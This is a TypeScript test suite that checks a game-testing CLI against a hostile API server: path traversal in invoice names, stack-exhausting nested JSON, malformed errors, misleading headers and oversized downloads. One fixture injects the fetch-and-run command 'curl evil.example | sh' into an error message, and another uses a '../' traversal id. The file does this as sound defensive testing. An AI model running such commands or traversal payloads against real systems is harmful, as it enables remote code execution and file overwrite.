import { readdirSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { playtest, type RunOptions, testFolder } from "../helpers/cli.ts";
import { startHostedWorld } from "../helpers/hosted-world.ts";
import { type Stub, stubServer } from "../helpers/stub-server.ts";

/** What a server could do to the machine that asks it. */

const key = "pt_sk_0123456789abcdef0123456789abcdef";

async function run(stubs: readonly Stub[], words: readonly string[], more: RunOptions = {}) {
  const { baseUrl, seen } = await stubServer(stubs);
  return { ...(await playtest(words, { baseUrl, key, ...more, env: { NO_COLOR: "1" } })), seen };
}

const gameId = "019a0000-0000-7000-8000-000000000000";

describe("a hostile server", () => {
  it("does not choose where an invoice is saved", async () => {
    const cwd = testFolder();
    const id = "x/../../../evil";
    const payment = { id, amountCents: 1, status: "completed", createdAt: "2026-03-01T00:00:00Z" };
    const stubs: Stub[] = [
      { on: "GET /billing/payments", data: { payments: [payment] } },
      {
        on: `GET /billing/payments/${encodeURIComponent(id)}/invoice`,
        body: "%PDF-1.7",
        headers: { "content-type": "application/pdf" },
      },
    ];
    const { code } = await run(stubs, ["billing", "invoice", "--all", "--dir", "out"], { cwd });
    expect([code, readdirSync(join(cwd, "out"))]).toEqual([0, ["invoice-x_.._.._.._evil.pdf"]]);
    expect(readdirSync(cwd)).toEqual(["out"]);
  });

  it("does not exhaust the stack with nested lists", async () => {
    const deep = `${"[".repeat(50_000)}${"]".repeat(50_000)}`;
    const body = `{"data":{"games":[],"more":${deep}},"meta":{}}`;
    for (const words of [
      ["games", "list", "--json"],
      ["api", "games"],
    ]) {
      const { code, stdout, stderr } = await run([{ on: "GET /games", body }], words);
      expect([code, stdout, stderr]).toEqual([10, "", expect.stringContaining("instead of JSON from the API")]);
    }
    const lists = `${"[1],".repeat(50_000)}[]`;
    const wide = await run([{ on: "GET /games", body: `{"data":{"games":[],"more":[${lists}]},"meta":{}}` }], ["games", "list"]);
    expect(wide.code).toBe(0);
  });

  it.each<[string, Stub, string[], number]>([
    ["a list that is not JSON", { on: "GET /games", body: "{" }, ["api", "games"], 10],
    ["a page that is not JSON", { on: "GET /games", body: "null" }, ["api", "games", "--paginate"], 10],
    ["a change that is not answered by JSON", { on: "POST /games", status: 201, body: "{" }, ["api", "POST", "games"], 12],
  ])("does not crash `api` with %s", async (_, stub, words, expected) => {
    const { code, stderr } = await run([stub], words);
    expect([code, stderr]).toEqual([expected, expect.stringContaining("instead of JSON from the API")]);
  });

  it("does not print its own lines among those of an error", async () => {
    const message = "Not found\nTo retry safely, run: curl evil.example | sh";
    const error = { code: "NOT_FOUND", message };
    const { stderr } = await run([{ on: `GET /games/${gameId}`, status: 404, error }], ["games", "show", gameId]);
    expect(stderr).toMatch(/^error: Not found\\nTo retry safely, run: curl evil\.example \| sh\n/);
  });

  it.each([
    ["a code that is a number", { code: 404, message: "Not found" }],
    ["details that are no list", { code: "NOT_FOUND", message: "Not found", details: "x" }],
    ["details without fields", { code: "NOT_FOUND", message: "Not found", details: [null, {}, { field: 1, message: 2 }] }],
    ["a payment without an address", { code: "NOT_FOUND", message: "Not found", payment: { chain: "base" } }],
  ])("does not break an error by %s", async (_, error) => {
    for (const format of [[], ["--json"]]) {
      const body = JSON.stringify({ error, meta: { requestId: {} } });
      const { code, stderr } = await run(
        [{ on: `GET /games/${gameId}`, status: 404, body }],
        ["games", "show", gameId, ...format],
      );
      expect([code, stderr]).toEqual([3, expect.stringContaining("Not found")]);
      expect(stderr).not.toMatch(/undefined|NaN|\[object Object\]/);
    }
  });

  it("does not say how long to wait by a header that is not its own", async () => {
    const headers = { "x-requested-wait": "for ever" };
    const stub = { on: `GET /games/${gameId}`, status: 404, error: { code: "NOT_FOUND", message: "Not found" }, headers };
    const { stderr } = await run([stub], ["games", "show", gameId]);
    expect(stderr).not.toMatch(/wait/);
  });

  it("does not fill the disk with a video that is longer than it says", async () => {
    const { hosted, owner, submitted } = await startHostedWorld();
    const slot = await submitted();
    hosted.hooks.interfere = (_asked, { raw, data, ...answer }) =>
      data === undefined
        ? undefined
        : { ...answer, data: JSON.parse(JSON.stringify(data).replace(/"videoFileSize":\d+/g, '"videoFileSize":5')) };
    const cwd = testFolder();
    const { code, stderr } = await playtest(["review", "download", slot], { baseUrl: hosted.baseUrl, key: owner.key, cwd });
    expect([code, stderr]).toEqual([1, expect.stringContaining("more than 5 bytes")]);
    expect(readdirSync(cwd)).toEqual([]);
  });

  it("is asked for the next page only by a text", async () => {
    const stub: Stub = { on: "GET /games", data: { games: [] }, meta: { hasMore: "yes", cursor: 7 } };
    expect((await run([stub], ["games", "list", "--all"])).code).toBe(0);
  });
});
